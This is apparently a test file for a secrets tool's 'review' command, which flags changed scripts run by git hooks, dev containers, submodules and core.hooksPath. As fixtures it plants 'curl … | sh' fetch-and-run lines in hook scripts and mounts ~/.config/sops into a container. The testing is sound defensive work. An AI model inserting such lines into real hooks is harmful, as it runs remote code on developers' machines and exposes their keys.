/**
 * `review` of a change to a script that a git hook manager's file runs (real git; test-only age keys
 * made in each sandbox): `.husky/pre-commit` running `./tools/fmt.sh`, a `.pre-commit-config.yaml`
 * local hook's `entry: tools/lint`, lefthook's `run:` — the hook file unchanged, the script changed.
 * A member's next commit runs it with their age key in reach: weakened-rule at the script, for a
 * range of commits and for the working tree, and for a project in a subfolder (hooks at the top).
 */
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it, vi } from "vitest";
import { aliceProject, createSandbox, infraProject, sandboxesCleanedAfterEach } from "./helpers/cli.js";

vi.setConfig({ testTimeout: 120_000 });

const sandboxes = sandboxesCleanedAfterEach();

interface Problem {
  kind: string;
  file?: string;
  message: string;
}

const HOOKS: Record<string, string> = {
  ".husky/pre-commit": "stellar-secrets pre-commit\n./tools/fmt.sh\n",
  ".pre-commit-config.yaml": "repos:\n  - repo: local\n    hooks:\n      - id: lint\n        name: lint\n        entry: tools/lint --fix\n        language: system\n",
  "lefthook-local.yml": "pre-push:\n  jobs:\n    - run: |\n        bin/hook {push_files}\n",
  "tools/fmt.sh": "echo fmt\n",
  "tools/lint": "echo lint\n",
  "bin/hook": "echo hook\n",
};

describe("review: the scripts the git hook managers' files run", () => {
  it("a change to ./tools/fmt.sh (husky), tools/lint (pre-commit entry), bin/hook (lefthook run) is weakened-rule at each, naming the hook file; in a range, in the working tree, and for a project in a subfolder", async () => {
    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0001"]]);
    for (const [path, text] of Object.entries(HOOKS)) s.write(path, text);
    s.commit("hooks");
    for (const path of ["tools/fmt.sh", "tools/lint", "bin/hook"]) s.write(path, `${HOOKS[path] as string}curl -s https://example.invalid/x | sh\n`);
    // the working tree against HEAD (ls-files), then the commit (ls-tree)
    const tree = await s.run(["review", "--json"]);
    expect(tree.code, tree.stderr).toBe(1);
    const expected = [
      ["weakened-rule", "bin/hook", "lefthook-local.yml (lefthook)"],
      ["weakened-rule", "tools/fmt.sh", ".husky/pre-commit (husky, a hook script)"],
      ["weakened-rule", "tools/lint", ".pre-commit-config.yaml (the pre-commit framework)"],
    ];
    const seen = (out: string) =>
      (JSON.parse(out) as { problems: Problem[] }).problems
        .map((p) => [p.kind, p.file, /, and (.*?) runs it at a git hook/.exec(p.message)?.[1]])
        .sort((a, b) => String(a[1]).localeCompare(String(b[1])));
    expect(seen(tree.stdout)).toEqual(expected);
    s.commit("scripts");
    const range = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
    expect(range.code, range.stderr).toBe(1);
    expect(seen(range.stdout)).toEqual(expected);
    // the hooks' files unchanged and nothing they run changed: clean
    s.write("docs/readme.md", "x\n");
    s.commit("docs");
    expect((await s.run(["review", "HEAD~1", "HEAD"])).code).toBe(0);

    // a project in the subfolder infra, the hooks at the top: paths from the project root
    const t = createSandbox();
    sandboxes.push(t);
    const infra = await infraProject(t, "sk_test_hooks_0002");
    for (const [path, text] of Object.entries(HOOKS)) t.write(path, text);
    t.commit("hooks");
    t.write("tools/fmt.sh", "curl -s https://example.invalid/x | sh\n");
    t.commit("fmt");
    const nested = await t.run(["review", "HEAD~1", "HEAD", "--json"], { cwd: infra });
    expect(nested.code, nested.stderr).toBe(1);
    expect(seen(nested.stdout)).toEqual([["weakened-rule", "../tools/fmt.sh", "../.husky/pre-commit (husky, a hook script)"]]);
    expect(join(infra, "..")).toBe(t.repo);
  });

  it("what a hook reaches after cd, through an npm script that runs lint-staged, and through a path computed at run time ($(git rev-parse --show-toplevel)/…, a for loop over a folder) is weakened-rule when the change changes it, the hook file unchanged", async () => {
    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0003"]]);
    s.write(".husky/pre-commit", 'stellar-secrets pre-commit\ncd web && ./check\nnpm run precommit\n"$(git rev-parse --show-toplevel)/tools/lib/guard"\nfor f in .githooks/pre-commit.d/*; do "$f"; done\n');
    s.write("web/check", "echo check\n");
    s.write("package.json", JSON.stringify({ scripts: { precommit: "lint-staged" }, "lint-staged": { "*.ts": "eslint" } }, null, 2));
    s.write("tools/lib/guard", "echo guard\n");
    s.write(".githooks/pre-commit.d/10-fmt", "echo fmt\n");
    s.commit("hooks");
    s.write("web/check", "curl -s https://example.invalid/x | sh\n");
    s.write("package.json", JSON.stringify({ scripts: { precommit: "lint-staged" }, "lint-staged": { "*.ts": "eslint; curl -s https://example.invalid/x | sh" } }, null, 2));
    s.write("tools/lib/guard", "curl -s https://example.invalid/x | sh\n");
    s.write(".githooks/pre-commit.d/20-new", "curl -s https://example.invalid/x | sh\n");
    s.write("docs/readme.md", "x\n");
    s.commit("the change");
    const r = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
    expect(r.code, r.stderr).toBe(1);
    const problems = (JSON.parse(r.stdout) as { problems: Problem[] }).problems.filter((p) => p.kind === "weakened-rule");
    expect(problems.map((p) => p.file).sort()).toEqual([".githooks/pre-commit.d/20-new", "package.json", "tools/lib/guard", "web/check"]);
    expect(problems.find((p) => p.file === "tools/lib/guard")?.message).toMatch(/computed at run time that ends in tools\/lib\/guard/);
    expect(problems.find((p) => p.file === "package.json")?.message).toMatch(/"lint-staged" configuration/);
  });
});

describe("review: the files a dev container file names", () => {
  it("a change to initializeCommand's script or to the compose file (a volume binding ~/.config/sops), the devcontainer.json unchanged, is weakened-rule at each, naming the dev container file", async () => {
    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0009"]]);
    s.write(".devcontainer/devcontainer.json", JSON.stringify({ initializeCommand: ".devcontainer/init.sh", dockerComposeFile: "compose.yml", service: "app" }));
    s.write(".devcontainer/init.sh", "echo init\n");
    s.write(".devcontainer/compose.yml", "services:\n  app:\n    image: debian\n    volumes:\n      - ..:/workspace\n");
    s.commit("dev container");
    s.write(".devcontainer/init.sh", "echo init\ncurl -s https://example.invalid/x | sh\n");
    s.write(".devcontainer/compose.yml", "services:\n  app:\n    image: debian\n    volumes:\n      - ..:/workspace\n      - ~/.config/sops:/keys\n");
    s.commit("init");
    const r = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
    expect(r.code, r.stderr).toBe(1);
    const problems = (JSON.parse(r.stdout) as { problems: Problem[] }).problems.map((p) => [p.kind, p.file, /and (\S+) \(a dev container file\) names it/.exec(p.message)?.[1]]);
    expect(problems.sort()).toEqual([
      ["weakened-rule", ".devcontainer/compose.yml", ".devcontainer/devcontainer.json"],
      ["weakened-rule", ".devcontainer/init.sh", ".devcontainer/devcontainer.json"],
    ]);
  });
});

describe("review: a script a hook runs from inside a git submodule", () => {
  it("a hook running vendor/tools/check.sh of a submodule: moving the submodule to another commit is weakened-rule at that script (its text is not in the repository); the same commit is clean", async () => {
    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0010"]]);
    const sub = mkdtempSync(join(tmpdir(), "stellar-sub-"));
    const g = (cwd: string, args: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "protocol.file.allow=always", ...args], { cwd, encoding: "utf8" }).trim();
    try {
      g(sub, ["init", "-q", "-b", "main"]);
      writeFileSync(join(sub, "check.sh"), "echo check\n");
      g(sub, ["add", "-A"]);
      g(sub, ["commit", "-q", "-m", "one"]);
      writeFileSync(join(sub, "check.sh"), "curl -s https://example.invalid/x | sh\n");
      g(sub, ["commit", "-q", "-am", "two"]);
      const [one, two] = [g(sub, ["rev-parse", "HEAD~1"]), g(sub, ["rev-parse", "HEAD"])];
      g(s.repo, ["submodule", "add", "-q", sub, "vendor/tools"]);
      g(join(s.repo, "vendor/tools"), ["checkout", "-q", one]);
      s.write(".husky/pre-commit", "stellar-secrets pre-commit\nvendor/tools/check.sh\n");
      s.commit("hook and submodule");
      s.write("docs/readme.md", "x\n");
      s.commit("docs");
      expect((await s.run(["review", "HEAD~1", "HEAD"])).code).toBe(0);
      g(join(s.repo, "vendor/tools"), ["checkout", "-q", two]);
      s.commit("bump");
      const r = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
      expect(r.code, r.stderr).toBe(1);
      expect((JSON.parse(r.stdout) as { problems: Problem[] }).problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", "vendor/tools/check.sh"]]);
    } finally {
      rmSync(sub, { recursive: true, force: true });
    }
  });
});

describe("review: the hooks of a folder the repository sets as git's core.hooksPath", () => {
  it("package.json's prepare sets core.hooksPath .githooks: a change to .githooks/pre-commit is weakened-rule; a docs change is clean", async () => {
    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0011"]]);
    s.write("package.json", JSON.stringify({ scripts: { prepare: "git config core.hooksPath .githooks" } }, null, 2));
    s.write(".githooks/pre-commit", "#!/bin/sh\nstellar-secrets pre-commit\n");
    s.commit("hooks");
    s.write("docs/readme.md", "x\n");
    s.commit("docs");
    expect((await s.run(["review", "HEAD~1", "HEAD"])).code).toBe(0);
    s.write(".githooks/pre-commit", "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n");
    s.commit("hook");
    const r = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
    expect(r.code, r.stderr).toBe(1);
    expect((JSON.parse(r.stdout) as { problems: Problem[] }).problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".githooks/pre-commit"]]);
  });
});
